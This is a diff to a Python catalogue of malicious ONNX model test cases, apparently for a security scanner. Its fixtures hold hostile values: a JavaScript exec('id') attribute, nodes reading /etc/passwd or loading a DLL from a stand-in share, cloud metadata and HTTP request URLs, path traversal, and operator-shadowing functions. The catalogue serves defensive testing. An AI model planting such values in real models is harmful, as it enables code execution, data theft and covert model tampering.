@@ -1,4 +1,4 @@
-"""Operators that run code, load files or contact servers, and functions that replace operators."""
+"""Operators that run code, use files or contact servers; functions that replace operators; options of runtimes."""
 # fmt: off
 
 from __future__ import annotations
@@ -64,20 +64,21 @@ attack("in-training", "PyOp in the training algorithm.", model_with_extras(extra
     "PyOp", ["x"], ["z"], domain="ai.onnx.contrib")], [X], [value("z")])))))
 attack("spelled-python-op", "Python_Op, a spelling that name matching misses.", network([node("Python_Op", ["x"],
     ["y"], domain="ai.onnx.contrib")], opsets=CONTRIB))
-attack("lambda", "A Lambda of the domain keras with marshalled Python code.", network([node("Lambda", ["x"], ["y"],
-    domain="keras", function=b"\xe3\0\0\0\0")], opsets=opsets_with("keras")))
+attack("lambda", "A Lambda of the domain keras with the first bytes of marshalled Python code.", network([node("Lambda",
+    ["x"], ["y"], domain="keras", function=b"\xe3\0\0\0\0")], opsets=opsets_with("keras")))
 attack("java-script", "A JavaScript operator with code in an attribute.", network([node("JSKernel", ["x"], ["y"],
     domain="com.example.js", source="require('child_process').exec('id')")], opsets=opsets_with("com.example.js")))
 attack("custom-kernel", "A node with PTX code for a GPU.", network([node("CudaKernel", ["x"], ["y"],
     domain="com.example.cuda", ptx=".version 7.0\n.target sm_70\n")], opsets=opsets_with("com.example.cuda")))
 
-attack = declare("operator-file", "code", "An operator loads a file or a library that an attribute names.", "CWE-829",
-    "onnxruntime-extensions, TensorRT, OpenVINO, custom runtimes")
+attack = declare("operator-file", "code", "An operator loads a library or compiled code, or reads or writes a file.",
+    "CWE-829", "onnxruntime-extensions, TensorRT, OpenVINO, custom runtimes")
 
 
-def file_attack(name, effect, op, domain, inputs=("x",), **attributes):
-    """Add an attack whose node reads, writes or loads a file."""
-    attack(name, effect, network([node(op, inputs, ["y"], domain=domain, **attributes)], opsets=opsets_with(domain)))
+def file_attack(name, description, op, domain, inputs=("x",), **attributes):
+    """Add an attack whose node loads compiled code, or reads or writes a file."""
+    attack(name, description, network([node(op, inputs, ["y"], domain=domain, **attributes)],
+        opsets=opsets_with(domain)))
 
 
 file_attack("bert-tokenizer", "BertTokenizer with vocab_file /etc/passwd.", "BertTokenizer", "ai.onnx.contrib",
@@ -94,12 +95,12 @@ file_attack("windows-library", "A node that names a DLL on a share.", "CustomOp"
     dll="\\\\192.0.2.1\\share\\evil.dll")
 file_attack("snpe", "Snpe of com.microsoft with a container of code for a DSP.", "Snpe", "com.microsoft", DLC=ELF,
     notes="")
-file_attack("file-reader", "ReadFile of com.example reads any file.", "ReadFile", "com.example",
+file_attack("file-reader", "ReadFile of com.example reads /etc/passwd.", "ReadFile", "com.example",
     filename="/etc/passwd")
 file_attack("file-writer", "A node that writes a file.", "WriteFile", "com.example", filename="/tmp/evil")
 file_attack("wordpiece", "WordpieceTokenizer with a vocabulary path that goes up.", "WordpieceTokenizer",
     "ai.onnx.contrib", vocab="../../vocab.txt")
-attack("extension-read-file", "The operator of TensorFlow's ReadFile in a converter's domain, with a constant path.",
+attack("extension-read-file", "ReadFile of TensorFlow, in the domain of a converter, with a constant path.",
     network([node("ReadFile", ["p"], ["y"], domain="ai.onnx.converters.tensorflow")], [strings("p", ["/etc/passwd"])],
     outputs=[value("y", STRING, [None])], opsets=opsets_with("ai.onnx.converters.tensorflow")))
 
@@ -107,9 +108,9 @@ attack = declare("operator-network", "code", "An operator sends inputs to a serv
     "CWE-918", "onnxruntime-extensions")
 
 
-def server_attack(name, effect, op, **attributes):
+def server_attack(name, description, op, **attributes):
     """Add an attack whose node sends a request to a server."""
-    attack(name, effect, network([node(op, ["k", "x"], ["y"], domain="com.microsoft.extensions", **attributes)],
+    attack(name, description, network([node(op, ["k", "x"], ["y"], domain="com.microsoft.extensions", **attributes)],
         [strings("k", ["key"])], opsets=EXTENSIONS))
 
 
@@ -123,14 +124,15 @@ server_attack("metadata-service", "AzureTextToText whose model_uri is the metada
     "AzureTextToText", model_uri="http://169.254.169.254/latest/meta-data/", model_name="x")
 server_attack("http-request", "A generic HTTP operator.", "HttpRequest", url="http://192.0.2.1/?q=")
 
-attack = declare("ep-context", "code", "EPContext contains or names a compiled binary, which a driver runs.", "CWE-829",
+attack = declare("ep-context", "code",
+    "EPContext or a similar operator contains or names a compiled binary, which a driver runs.", "CWE-829",
     "onnxruntime with QNN, OpenVINO, TensorRT, VitisAI")
 FIX_PAGE = "https://github.com/microsoft/onnxruntime/pull/28605"
 
 
-def context_attack(name, effect, source=FIX_PAGE, cwe="CWE-829", **attributes):
+def context_attack(name, description, source=FIX_PAGE, cwe="CWE-829", **attributes):
     """Add an attack with an EPContext node."""
-    attack(name, effect, network([node("EPContext", ["x"], ["y"], domain="com.microsoft",
+    attack(name, description, network([node("EPContext", ["x"], ["y"], domain="com.microsoft",
         **({"main_context": 1} | attributes))], opsets=MICROSOFT), source=source, cwe=cwe)
 
 
@@ -142,12 +144,12 @@ context_attack("windows", "embed_mode 0 with a path on drive C.", cwe="CWE-22", 
     ep_cache_context="C:\\Windows\\System32\\evil.dll")
 context_attack("share", "embed_mode 0 with a path on a share.", cwe="CWE-22", embed_mode=0,
     ep_cache_context="\\\\192.0.2.1\\share\\ctx.bin")
-context_attack("folder", "embed_mode 0 with a path in the folder: a binary that no one has checked.", embed_mode=0,
+context_attack("folder", "embed_mode 0 with the name of an unchecked binary in the model's folder.", embed_mode=0,
     ep_cache_context="context.bin", ep_sdk_version="1.0")
 context_attack("embedded-elf", "embed_mode 1 with an ELF program.", embed_mode=1, ep_cache_context=ELF)
 context_attack("embedded-pe", "embed_mode 1 with a Windows program.", embed_mode=1, ep_cache_context=PE)
-context_attack("partition", "main_context 0 and another partition.", main_context=0, embed_mode=0, ep_cache_context="",
-    partition_name="../evil")
+context_attack("partition", "main_context 0 and the partition name ../evil.", main_context=0, embed_mode=0,
+    ep_cache_context="", partition_name="../evil")
 attack("in-function", "EPContext in a function.", network([node("Block", ["x"], ["y"], domain="local")], opsets=OPSETS,
     functions=[function("Block", [node("EPContext", ["a"], ["b"], domain="com.microsoft", embed_mode=0,
     ep_cache_context="../evil.bin")], ["a"], ["b"], opsets=MICROSOFT)]))
@@ -155,9 +157,9 @@ attack("engine", "TRTEngineOp with a serialized engine.", network([node("TRTEngi
     serialized_engine=ELF, engine_path="/tmp/e.plan")], opsets=opsets_with("trt")))
 
 attack = declare("unknown-domain", "code",
-    "Operators of an undocumented domain: their effect depends on a library at run time.", "CWE-829",
+    "An operator or its domain is undocumented: what it does depends on a library at run time.", "CWE-829",
     "runtimes with custom operator libraries")
-for case_name, domain, effect in (
+for case_name, domain, description in (
     ("plain", "com.example.private", "A domain without a known signature."),
     ("nvidia", "nvinfer1", "A domain of plugins."),
     ("empty-looking", " ", "The domain is a space."),
@@ -166,7 +168,8 @@ for case_name, domain, effect in (
     ("upper-case", "COM.MICROSOFT", "A domain in capitals."),
     ("test", "test", "The domain 'test'."),
 ):
-    attack(case_name, effect, network([node("Transform", ["x"], ["y"], domain=domain)], opsets=opsets_with(domain)))
+    attack(case_name, description, network([node("Transform", ["x"], ["y"], domain=domain)],
+        opsets=opsets_with(domain)))
 attack("not-imported", "A node of a domain that the model does not import.", network([node("Transform", ["x"], ["y"],
     domain="com.example.hidden")]))
 attack("standard-domain", "An operator that the default domain does not have.", network([node("LoadLibrary", ["x"],
@@ -178,24 +181,24 @@ attack("microsoft-unknown", "An operator that com.microsoft does not have.", net
     domain="com.microsoft")], opsets=MICROSOFT))
 
 attack = declare("function-shadows", "code",
-    "A function has the name of a standard operator and does something else.", "CWE-1021",
+    "A function has the name of an operator of ONNX or onnxruntime and does something else.", "CWE-1021",
     "onnx, onnxruntime, Netron, inliners")
 
 
-def shadow_attack(name, effect, op, body, domain="", inputs=("a",), opsets=(("", 21),), **options):
+def shadow_attack(name, description, op, body, domain="", inputs=("a",), opsets=(("", 21),), **options):
     """Add an attack with a function that replaces the operator `op`."""
     call = node(op, ["x"] * len(inputs), ["y"], domain=domain or None, **options)
-    attack(name, effect, network([call], opsets=opsets, functions=[function(op, body, inputs, ["b"], domain)]))
+    attack(name, description, network([call], opsets=opsets, functions=[function(op, body, inputs, ["b"], domain)]))
 
 
 shadow_attack("relu", "Relu is Neg.", "Relu", [node("Neg", ["a"], ["b"])])
 shadow_attack("softmax", "Softmax is Identity.", "Softmax", [node("Identity", ["a"], ["b"])])
-shadow_attack("ai-onnx", "Relu of the domain ai.onnx, an alias of the default domain.", "Relu", [node("Neg", ["a"], [
-    "b"])], "ai.onnx", opsets=(("", 21), ("ai.onnx", 21)))
-shadow_attack("microsoft", "Gelu of com.microsoft.", "Gelu", [node("Neg", ["a"], ["b"])], "com.microsoft",
+shadow_attack("ai-onnx", "Relu of the domain ai.onnx, an alias of the default domain, is Neg.", "Relu", [node("Neg",
+    ["a"], ["b"])], "ai.onnx", opsets=(("", 21), ("ai.onnx", 21)))
+shadow_attack("microsoft", "Gelu of com.microsoft is Neg.", "Gelu", [node("Neg", ["a"], ["b"])], "com.microsoft",
     opsets=MICROSOFT)
-shadow_attack("machine-learning", "Scaler of ai.onnx.ml.", "Scaler", [node("Neg", ["a"], ["b"])], "ai.onnx.ml", opsets=(
-    ("", 21), ("ai.onnx.ml", 3)))
+shadow_attack("machine-learning", "Scaler of ai.onnx.ml is Neg.", "Scaler", [node("Neg", ["a"], ["b"])], "ai.onnx.ml",
+    opsets=(("", 21), ("ai.onnx.ml", 3)))
 shadow_attack("function-operator", "LayerNormalization, which the standard itself defines by a function.",
     "LayerNormalization", [node("Mul", ["a", "s"], ["b"])], inputs=("a", "s"))
 shadow_attack("matmul", "MatMul adds.", "MatMul", [node("Add", ["a", "c"], ["b"])], inputs=("a", "c"))
@@ -205,7 +208,7 @@ shadow_attack("like-runtime", "Gelu of com.microsoft.ops, which onnxruntime does
     [node("Neg", ["a"], ["b"])], "com.microsoft.ops", opsets=(("", 21), ("com.microsoft.ops", 1)))
 attack("overload", "Relu with an overload name.", network([node("Relu", ["x"], ["y"], extra=record(8, "fast"))],
     functions=[function("Relu", [node("Neg", ["a"], ["b"])], ["a"], ["b"], "", extra=record(13, "fast"))]))
-attack("control-flow", "If is replaced by a function that takes no branch.", network([node("If", ["t"], ["y"],
+attack("control-flow", "If is replaced by a function that executes no branch.", network([node("If", ["t"], ["y"],
     then_branch=graph([node("Identity", ["x"], ["a"])], [], [value("a")]), else_branch=graph([node("Neg", ["x"],
     ["q"])], [], [value("q")]))], [scalar("t", True, BOOL)], functions=[function("If", [node("Constant", [], ["b"],
     value=values(None, [6.0] * 4))], ["a"], ["b"], "")]))
@@ -217,10 +220,10 @@ attack = declare("runtime-config", "code", "Metadata configures the runtime that
     "onnxruntime with ORT_LOAD_CONFIG_FROM_MODEL=1, tools that read options from metadata")
 
 
-def config_attack(name, effect, options, key="ort_config"):
-    """Add an attack whose metadata has options of a runtime, as JSON."""
+def config_attack(name, description, options, key="ort_config"):
+    """Add an attack whose metadata configures a runtime. options: a text, or values that are stored as JSON."""
     text = options if isinstance(options, str) else json.dumps(options)
-    attack(name, effect, model(IDENTITY, metadata=((key, text),)))
+    attack(name, description, model(IDENTITY, metadata=((key, text),)))
 
 
 config_attack("profiling", "ort_config turns on profiling, which writes files.",
